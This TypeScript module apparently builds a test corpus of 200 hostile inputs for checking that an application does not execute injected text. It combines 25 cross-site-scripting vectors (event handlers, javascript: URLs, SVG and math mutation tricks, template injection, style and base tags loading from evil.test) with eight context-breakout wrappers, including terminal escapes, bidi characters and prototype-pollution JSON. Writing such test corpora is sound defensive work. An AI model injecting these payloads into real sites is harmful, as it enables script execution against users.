/** What a script would leave behind if one of these ran. */
export const MARK = "__ran";

const RUN = `top.${MARK}=self.${MARK}=1`;

/** Texts that have become scripts somewhere, once. */
const VECTORS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<a href="javascript:${RUN}" autofocus onfocus="${RUN}">x</a>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<body onload="${RUN}">`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror="${RUN}"></style>`,
  `<style>@import "http://evil.test/";</style>`,
  `<link rel=stylesheet href="http://evil.test/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="http://evil.test/">`,
  `<object data="javascript:${RUN}"></object>`,
  `<form action="javascript:${RUN}"><button autofocus>x`,
  `<template><script>${RUN}</script></template>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
];

/** Ways to break out of where a text stands. */
const AROUND: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `"'>${vector}`,
  (vector) => `]]>--></text></svg></title></style></textarea>${vector}`,
  (vector) => `&lt;${vector}&quot;&#x3c;`,
  (vector) => `\u202e${vector}\u2066\u200f`,
  (vector) => `\u001b[2J\u001b]0;${vector}\u0007\u009b31m`,
  (vector) => `\0\r\n\u2028${vector}\ufeff\ufffe`,
  (vector) => `{"__proto__":{"polluted":1},"x":${JSON.stringify(vector)}}`,
];

/** Two hundred payloads, and at the end of each a byte that is no text at all. */
export const HOSTILE: readonly Uint8Array[] = AROUND.flatMap((around) =>
  VECTORS.map((vector) => Buffer.concat([Buffer.from(around(vector)), Buffer.from([0xff])])),
);
